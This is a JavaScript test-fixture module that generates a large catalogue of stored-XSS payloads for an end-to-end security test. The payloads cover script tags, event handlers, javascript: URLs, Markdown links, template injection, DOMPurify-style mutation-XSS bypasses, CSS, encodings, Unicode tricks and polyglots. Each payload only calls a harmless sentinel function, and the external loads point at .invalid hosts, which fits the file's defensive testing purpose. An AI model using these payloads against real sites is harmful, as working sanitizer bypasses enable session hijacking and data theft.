// The stored-XSS payloads of e2e/xss.test.mjs (issue #9, "Hostile input"). Plain data and two
// pure helpers, no I/O; node 18.
//
// Every payload, if it ever ran as script, calls the page's sentinel `__xss(N)` with its own
// number N (or, for a few, `alert(N)`, `confirm(N)` or `prompt(N)`, which the test sees as a
// dialog), so an execution is detected and named, never guessed. The templates below take the
// sentinel call `c` (the string `__xss(N)`) and `n` (the number) and give the payload's text.
// Some are several lines (Markdown reference links, HTML blocks, tables, fences); `oneLine`
// gives the form that goes where a line break cannot (titles, names, institutions).
//
// The groups follow the classic vectors: script elements, event handlers, javascript:, data:
// and vbscript: URLs in HTML and in Markdown links, images, autolinks and reference links, iframe
// srcdoc, attribute and element breakouts, template-engine expressions, mutation XSS (the
// DOMPurify bypasses of the last years: noscript, math/mtext/mglyph/style, svg/style, form
// nesting), CSS url()/expression()/@import, entity-, percent- and escape-encoded forms,
// Unicode tricks (fullwidth brackets, bidi overrides, zero-width characters, BOM), polyglots
// and external loads (dangling markup, base, meta refresh, link, style url()) that the test
// catches as a request to a host other than 127.0.0.1.

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const pct = (s) => [...s].map((ch) => `%${ch.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const dec = (s) => [...s].map((ch) => `&#${ch.codePointAt(0)};`).join('');
const hex = (s) => [...s].map((ch) => `&#x${ch.codePointAt(0).toString(16)};`).join('');
const jsEsc = (s) => [...s].map((ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

// Each template: (c, n) => text. `c` is `__xss(n)`.
const SCRIPT = [
  (c) => `<script>${c}</script>`,
  (c) => `<SCRIPT>${c}</SCRIPT>`,
  (c) => `<ScRiPt >${c}</sCrIpT >`,
  (c) => `<script type="module">${c}</script>`,
  (c) => `<script src="data:text/javascript,${c}"></script>`,
  (c) => `<script src=data:,${c}></script>`,
  (c) => `</script><script>${c}</script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `"><script>${c}</script>`,
  (c) => `'><script>${c}</script>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</style><script>${c}</script>`,
  (c) => `<!--><script>${c}</script>-->`,
  (c) => `<script>eval(atob('${b64(c)}'))</script>`,
  (c) => `<script>Function('${c}')()</script>`,
  (c) => `<script>setTimeout('${c}')</script>`,
  (c) => `<script>[].constructor.constructor('${c}')()</script>`,
  (c) => `<script>import('data:text/javascript,${c}')</script>`,
  (c, n) => `<script>window['__x'+'ss'](${n})</script>`,
  (c, n) => `<script>top[/__xss/.source](${n})</script>`,
  (c) => `<script\x20type="text/javascript">${c};</script>`,
  (c) => `<script/x>${c}</script>`,
  (c) => `<script>/*</script><script>*/${c}</script>`,
  (c, n) => `<script>alert(${n})</script>`,
  (c, n) => `<script>prompt(${n})</script>`,
];

// Event handlers on many elements.
const HANDLERS = [
  ['img src=x', 'onerror'], ['image src=x', 'onerror'], ['img src=x:x', 'onerror'], ['img src', 'onerror'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['video><source', 'onerror'],
  ['svg', 'onload'], ['svg/', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['iframe', 'onload'],
  ['details open', 'ontoggle'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['keygen autofocus', 'onfocus'], ['marquee', 'onstart'],
  ['object data=x', 'onerror'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'],
  ['div style="position:fixed;inset:0" ', 'onmouseover'], ['x', 'onclick'], ['a', 'onfocus'],
  ['input type=image src=x', 'onerror'], ['embed src=x', 'onload'], ['track src=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x to=1', 'onbegin'],
  ['form><button', 'onfocusin'], ['frameset', 'onload'], ['bgsound src=x', 'onerror'],
];
const HANDLER = HANDLERS.map(([tag, ev]) => (c) => `<${tag} ${ev}=${c}>`);

const HANDLER_VARIANTS = [
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<img src=x onerror='${c}'>`,
  (c) => `<img/src=x/onerror=${c}>`,
  (c) => `<IMG SRC=x OnErRoR=${c}>`,
  (c) => `<img src=x onerror=${c}//`,
  (c) => `<img src=\`x\`onerror=${c}>`,
  (c) => `<img src=x onerror\n=${c}>`,
  (c) => `<img src="x" alt="" onerror="${c}" />`,
  (c) => `<img srcset=",,,,,x" onerror=${c}>`,
  (c) => `<picture><source srcset=x><img src=x onerror=${c}></picture>`,
  (c) => `<img src=x onerror=${dec(c)}>`,
  (c) => `<img src=x onerror="${hex(c)}">`,
  (c) => `<img src=x onerror=${jsEsc('__xss')}(${c.slice(6, -1)})>`,
  (c) => `<img src=x onerror=eval(atob('${b64(c)}'))>`,
  (c) => `<svg onload=${c}//`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:,${c}"/></svg>`,
  (c) => `<svg><foreignObject><iframe onload=${c}></iframe></foreignObject></svg>`,
  (c, n) => `<img src=x onerror=alert(${n})>`,
  (c, n) => `<svg onload=confirm(${n})>`,
  (c, n) => `<details open ontoggle=prompt(${n})>`,
];

// URLs in HTML attributes.
const URLS = [
  (c) => `<a href="javascript:${c}">click</a>`,
  (c) => `<a href="JaVaScRiPt:${c}">click</a>`,
  (c) => `<a href=" javascript:${c}">click</a>`,
  (c) => `<a href="java&#x09;script:${c}">click</a>`,
  (c) => `<a href="&#106;avascript:${c}">click</a>`,
  (c) => `<a href="&#14;javascript:${c}">click</a>`,
  (c) => `<a href="javascript&colon;${c}">click</a>`,
  (c) => `<a href="vbscript:${c}">click</a>`,
  (c) => `<a href="data:text/html;base64,${b64(`<script>${c}</script>`)}">click</a>`,
  (c) => `<iframe src="javascript:${c}"></iframe>`,
  (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`,
  (c) => `<iframe srcdoc="&lt;img src=x onerror=${c}&gt;"></iframe>`,
  (c) => `<iframe src="data:text/html,<script>${c}</script>"></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<object data="data:text/html,<script>${c}</script>"></object>`,
  (c) => `<embed src="data:text/html,<script>${c}</script>">`,
  (c) => `<form><button formaction="javascript:${c}">go</button></form>`,
  (c) => `<form action="javascript:${c}"><input type=submit></form>`,
  (c) => `<math><a xlink:href="javascript:${c}">click</a></math>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text x=20 y=20>click</text></a></svg>`,
  (c) => `<svg><a href="javascript:${c}"><circle r=40></circle></a></svg>`,
  (c) => `<base href="javascript:${c}//">`,
  (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
  (c) => `<isindex action=javascript:${c} type=image>`,
  (c) => `<link rel=import href="data:text/html,<script>${c}</script>">`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<a href="javascript://%0a${c}">click</a>`,
  (c) => `<a href=javascript:${pct(c)}>click</a>`,
];

// Markdown: links, images, autolinks, reference links, HTML blocks and code.
const MARKDOWN = [
  (c) => `[click](javascript:${c})`,
  (c) => `[click](JAVASCRIPT:${c})`,
  (c) => `[click](javascript&#58;${c})`,
  (c) => `[click](javascript&colon;${c})`,
  (c) => `[click](&#x6A;avascript:${c})`,
  (c) => `[click](javas&#99;ript:${c})`,
  (c) => `[click](<javascript:${c}>)`,
  (c) => `[click](  javascript:${c}  "title")`,
  (c) => `[click](javascript://%0a${c})`,
  (c) => `[click](vbscript:${c})`,
  (c) => `[click](data:text/html;base64,${b64(`<script>${c}</script>`)})`,
  (c) => `[click](data:text/html,%3Cscript%3E${pct(c)}%3C/script%3E)`,
  (c) => `![img](javascript:${c})`,
  (c) => `![img](x" onerror="${c})`,
  (c) => `![img](x "t\\" onerror=\\"${c}")`,
  (c) => `[a](/#x "\\" onmouseover=\\"${c}")`,
  (c) => `[a](/#x 'x' onmouseover='${c}')`,
  (c) => `[![img](javascript:${c})](javascript:${c})`,
  (c) => `<javascript:${c}>`,
  (c) => `<JAVASCRIPT:${c}>`,
  (c) => `<vbscript:${c}>`,
  (c) => `<data:text/html;base64,${b64(`<script>${c}</script>`)}>`,
  (c) => `[x][r${c.length}]\n\n[r${c.length}]: javascript:${c}`,
  (c) => `![x][i${c.length}]\n\n[i${c.length}]: javascript:${c} "t"`,
  (c) => `[ref]\n\n[ref]: <javascript:${c}>`,
  (c) => `<div>\n<img src=x onerror=${c}>\n</div>`,
  (c) => `<details open ontoggle=${c}>\n\ntext\n\n</details>`,
  (c) => `<script>\n${c}\n</script>`,
  (c) => `<!--\n--><img src=x onerror=${c}>`,
  (c) => `\`<img src=x onerror=${c}>\``,
  (c) => `\`\`\`"><img src=x onerror=${c}>\ncode\n\`\`\``,
  (c) => `\`\`\`js\n</code><img src=x onerror=${c}>\n\`\`\``,
  (c) => `| a | <img src=x onerror=${c}> |\n|---|---|\n| <svg onload=${c}> | b |`,
  (c) => `*<img src=x onerror=${c}>*`,
  (c) => `_[click](javascript:${c})_`,
  (c) => `\\<img src=x onerror=${c}>`,
  (c) => `> <img src=x onerror=${c}>`,
  (c) => `- [click](javascript:${c})\n- <svg onload=${c}>`,
  (c) => `# <img src=x onerror=${c}>`,
  (c) => `www.example.com/"><img src=x onerror=${c}>`,
  (c) => `mailto:x@example.com"><img src=x onerror=${c}>`,
  (c) => `[click](#"onclick="${c})`,
  (c) => `[<img src=x onerror=${c}>](#x)`,
];

// Where the text could break out of an attribute, a string or a raw-text element.
const BREAKOUTS = [
  (c) => `"><img src=x onerror=${c}>`,
  (c) => `'><img src=x onerror=${c}>`,
  (c) => `\`><img src=x onerror=${c}>`,
  (c) => `" onmouseover="${c}" x="`,
  (c) => `' onfocus='${c}' autofocus x='`,
  (c) => `" autofocus onfocus="${c}`,
  (c) => `";${c};//`,
  (c) => `';${c};//`,
  (c) => `\\";${c};//`,
  (c) => `</script><img src=x onerror=${c}>`,
  (c) => `</style><img src=x onerror=${c}>`,
  (c) => `</textarea><img src=x onerror=${c}>`,
  (c) => `</title><img src=x onerror=${c}>`,
  (c) => `</noscript><img src=x onerror=${c}>`,
  (c) => `</pre><img src=x onerror=${c}>`,
  (c) => `]]><img src=x onerror=${c}>`,
  (c) => `--><img src=x onerror=${c}>`,
  (c) => `*/</style><img src=x onerror=${c}>`,
  (c) => `"}]}<img src=x onerror=${c}>`,
  (c) => `${c}`,
  (c) => `javascript:${c}`,
];

// Template engines and client-side expression languages.
const TEMPLATES = [
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `{{$on.constructor('${c}')()}}`,
  (c) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${c}')}}`,
  (c) => `\${${c}}`,
  (c) => `#{${c}}`,
  (c) => `<%= ${c} %>`,
  (c) => `{{${c}}}`,
  (c) => `[[${c}]]`,
  (c) => `{{{${c}}}}`,
  (c) => `<div v-html="'<img src=x onerror=${c}>'"></div>`,
  (c) => `<div ng-app ng-csp><div ng-click=$event.view.${c}>click</div></div>`,
  (c) => `{{#with "s" as |string|}}{{string.constructor('${c}')()}}{{/with}}`,
];

// Mutation XSS: markup that a sanitizer parses one way and the page another.
const MXSS = [
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
  (c) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${c}&gt;">`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  (c) => `<svg><p><style><a id="</style><img src=1 onerror=${c}>">`,
  (c) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${c} src=1>">`,
  (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) => `<template><script>${c}</script></template>`,
  (c) => `<xmp><img title="</xmp><img src=x onerror=${c}>"></xmp>`,
  (c) => `<noembed><img title="</noembed><img src=x onerror=${c}>">`,
  (c) => `<noframes><img title="</noframes><img src=x onerror=${c}>">`,
  (c) => `<iframe><img title="</iframe><img src=x onerror=${c}>"></iframe>`,
  (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>">`,
  (c) => `<title><img title="</title><img src=x onerror=${c}>">`,
  (c) => `<style><img title="</style><img src=x onerror=${c}>">`,
  (c) => `<svg><![CDATA[><img src=x onerror=${c}>]]></svg>`,
  (c) => `<? foo="><img src=x onerror=${c}>">`,
  (c) => `<![CDATA[<img src=x onerror=${c}>]]>`,
  (c) => `<listing>&lt;img src=x onerror=${c}&gt;</listing>`,
  (c) => `<svg><desc><![CDATA[</desc><script>${c}</script>]]></svg>`,
  (c) => `<math><style><img src=x onerror=${c}></style></math>`,
  (c) => `<table><td><svg><style><img src=x onerror=${c}>`,
];

// CSS.
const CSS = [
  (c) => `<div style="background:url(javascript:${c})">x</div>`,
  (c) => `<div style="width:expression(${c})">x</div>`,
  (c) => `<style>*{background:url("javascript:${c}")}</style>`,
  (c) => `<style>@import 'javascript:${c}';</style>`,
  (c) => `<div style="behavior:url(#default#time2)" onbegin="${c}">x</div>`,
  (c) => `<div style="-moz-binding:url(data:text/xml,x)" onclick="${c}">x</div>`,
  (c) => `<svg><style>*{fill:url(javascript:${c})}</style></svg>`,
  (c) => `<div style="x:\\65 xpression(${c})">x</div>`,
  (c, n) => `<style>body{background:url(//x${n}.invalid/css)}</style>`,
  (c, n) => `<div style="background-image:url(http://x${n}.invalid/1)">x</div>`,
  (c, n) => `<link rel=stylesheet href=//x${n}.invalid/s.css>`,
  (c, n) => `<style>@import url(//x${n}.invalid/i.css)</style>`,
];

// Encodings of the markup itself.
const ENCODED = [
  (c) => `&lt;img src=x onerror=${c}&gt;`,
  (c) => `&#60;script&#62;${c}&#60;/script&#62;`,
  (c) => `&#x3C;svg onload=${c}&#x3E;`,
  (c) => `&#0000060;img src=x onerror=${c}&#0000062;`,
  (c) => `&amp;lt;script&amp;gt;${c}&amp;lt;/script&amp;gt;`,
  (c) => `%3Cscript%3E${c}%3C%2Fscript%3E`,
  (c) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c) => `\\x3cimg src=x onerror=${c}\\x3e`,
  (c) => `${dec(`<img src=x onerror=${c}>`)}`,
  (c) => `${hex(`<script>${c}</script>`)}`,
  (c) => `&LT;img src=x onerror=${c}&GT;`,
  (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  (c) => `<img src=x onerror=${c}&NewLine;>`,
  (c) => `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${c}">click</a>`,
];

// Unicode tricks.
const UNICODE = [
  (c) => `＜script＞${c}＜/script＞`,
  (c) => `\u202E<img src=x onerror=${c}>`,
  (c) => `<scr\u200Bipt>${c}</scr\u200Bipt>`,
  (c) => `\uFEFF<script>${c}</script>`,
  (c) => `🎯<img src=x onerror=${c}>😀`,
  (c) => `<img src=x\u2028onerror=${c}>`,
  (c) => `<img src=x onerror=${c}\u00A0>`,
  (c) => `ʼ><img src=x onerror=${c}>`,
  (c) => `\u2066<svg onload=${c}>\u2069`,
  (c) => `<ſcript>${c}</ſcript>`,
  (c) => `<ıframe srcdoc="<script>${c}</script>">`,
  (c) => `e\u0301<img src=x onerror=${c}>a\u0308`,
  (c) => `\u{1D4E7}<img src=x onerror=${c}>\u{E0041}`,
  (c) => `<a href="\u2028javascript:${c}">click</a>`,
  (c) => `[click](\u200Bjavascript:${c})`,
];

// Polyglots and external loads (dangling markup and friends: caught as a request leaving 127.0.0.1).
const POLYGLOT = [
  (c) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${c}//'>`,
  (c) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${c} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${c}//>\\x3e`,
  (c) => `'">><marquee><img src=x onerror=${c}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${c}>`,
  (c) => `"'--></style></script><script>${c}</script>`,
  (c, n) => `<img src='//x${n}.invalid/?`,
  (c, n) => `<base href="//x${n}.invalid/">`,
  (c, n) => `<meta http-equiv="refresh" content="0;url=//x${n}.invalid/">`,
  (c, n) => `<img src=//x${n}.invalid/1>`,
  (c, n) => `<iframe src=//x${n}.invalid/></iframe>`,
  (c, n) => `<script src=//x${n}.invalid/x.js></script>`,
  (c) => `<a id=__xss name=__xss><form id=jointly><input id=session>${c}`,
];

const GROUPS = { SCRIPT, HANDLER, HANDLER_VARIANTS, URLS, MARKDOWN, BREAKOUTS, TEMPLATES, MXSS, CSS, ENCODED, UNICODE, POLYGLOT };

/// The payloads: [{id, group, text, oneLine}], ids from 1. `text` may hold line breaks;
/// `oneLine` is the text with every line break a space.
export const PAYLOADS = Object.freeze(Object.entries(GROUPS).flatMap(([group, list]) => list.map((t) => ({ group, t })))
  .map(({ group, t }, i) => {
    const id = i + 1;
    const text = t(`__xss(${id})`, id);
    return Object.freeze({ id, group, text, oneLine: text.replace(/\r?\n/g, ' ') });
  }));

/// Names that hostile code likes as object keys (for people and institutions): not scripts, but
/// a map keyed by plain objects would lose or confuse them.
export const KEY_NAMES = Object.freeze(['__proto__', 'constructor', 'hasOwnProperty', 'toString']);

/// Splits `list` into runs of `size` (the last may be shorter).
export function batches(list, size) {
  const out = [];
  for (let i = 0; i < list.length; i += size) out.push(list.slice(i, i + size));
  return out;
}

/// Packs strings into lines of at most `maxBytes` bytes of UTF-8, joined by a space, in order;
/// a string longer than `maxBytes` alone is left out. Returns [{text, items}].
export function pack(list, maxBytes) {
  const bytes = (s) => Buffer.byteLength(s, 'utf8');
  const out = [];
  let cur = null;
  for (const s of list) {
    if (bytes(s) > maxBytes) continue;
    if (cur && bytes(`${cur.text} ${s}`) <= maxBytes) {
      cur.text += ` ${s}`;
      cur.items.push(s);
    } else {
      cur = { text: s, items: [s] };
      out.push(cur);
    }
  }
  return out;
}
